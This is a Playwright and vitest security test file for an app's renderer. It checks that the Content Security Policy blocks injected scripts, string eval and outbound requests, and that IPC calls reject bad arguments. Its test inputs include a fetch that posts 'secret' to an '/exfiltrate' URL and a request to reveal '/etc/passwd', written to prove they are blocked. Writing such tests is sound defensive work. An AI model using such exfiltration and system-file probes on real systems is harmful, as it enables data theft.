import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium } from './lab/chromium.js';
import { type FerryPage, openFerryPage } from './lab/ferry-page.js';
import { Lab } from './lab/lab.js';

/** The renderer in real Chromium, under the app's CSP, calling main's real IPC dispatcher. */
describe('renderer security', () => {
  let lab: Lab;
  let browser: Browser;
  let ferry: FerryPage;

  beforeAll(async () => {
    lab = Lab.create({ hosts: ['browser'] });
    // No server listens there: these tests never need one.
    const signalingUrl = `http://${lab.host('browser').address}:9/`;
    browser = await launchChromium(lab.host('browser'));
    ferry = await openFerryPage(browser, lab.host('browser'), { deviceName: 'Secure', signalingUrl });
  });

  afterAll(async () => {
    await browser?.close().catch(() => {});
    await lab?.dispose();
  });

  it('blocks injected inline scripts and eval', async () => {
    const outcome = await ferry.page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
      const script = document.createElement('script');
      script.textContent = 'window.__injected = true';
      document.body.append(script);
      // A string timer is compiled by the page itself, so 'unsafe-eval' rules apply to it.
      (window.setTimeout as unknown as (code: string, ms: number) => number)('window.__evaluated = true', 0);
      await new Promise((r) => setTimeout(r, 200));
      const w = window as unknown as { __injected?: boolean; __evaluated?: boolean };
      return { injected: w.__injected ?? false, evaluated: w.__evaluated ?? false, violations };
    });
    expect(outcome.injected).toBe(false);
    expect(outcome.evaluated).toBe(false);
    expect(outcome.violations).toEqual(expect.arrayContaining(['script-src-elem', 'script-src']));
  });

  it('refuses network requests to anywhere but the signaling server', async () => {
    const outcome = await ferry.page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.violatedDirective} ${e.blockedURI}`));
      let rejected = false;
      try {
        await fetch('http://10.255.255.1/exfiltrate', { method: 'POST', body: 'secret' });
      } catch {
        rejected = true;
      }
      await new Promise((r) => setTimeout(r, 100));
      return { rejected, violations };
    });
    expect(outcome.rejected).toBe(true);
    // Refused by the policy before any packet is sent, not by the network.
    expect(outcome.violations).toEqual(['connect-src http://10.255.255.1/exfiltrate']);
  });

  it('gets clear errors, not crashes, for bad IPC arguments', async () => {
    const results = await ferry.page.evaluate(async () => {
      const api = (window as unknown as { ferry: unknown }).ferry as Record<string, (...a: unknown[]) => Promise<unknown>>;
      return Promise.all([
        api.writeClipboard!(42),
        api.writeClipboard!('x'.repeat(200_000)),
        api.showInFolder!('/etc/passwd'),
        api.writeClipboard!('fine'),
        // What only the engine may ask of main is not there for the window at all.
        typeof (api as Record<string, unknown>).signSession,
      ]);
    });
    expect(results[0]).toMatchObject({ ok: false, error: { code: 'INVALID_ARGUMENT', message: expect.stringMatching(/expected string/i) } });
    expect(results[1]).toMatchObject({ ok: false, error: { code: 'INVALID_ARGUMENT' } });
    expect(results[2]).toMatchObject({ ok: false, error: { code: 'FAILED', message: expect.stringMatching(/did not save/) } });
    expect(results[3]).toMatchObject({ ok: true, value: null });
    expect(results[4]).toBe('undefined');
    // The page is still alive and rendering.
    expect(await ferry.page.getByRole('heading', { name: 'This device' }).isVisible()).toBe(true);
  });
});
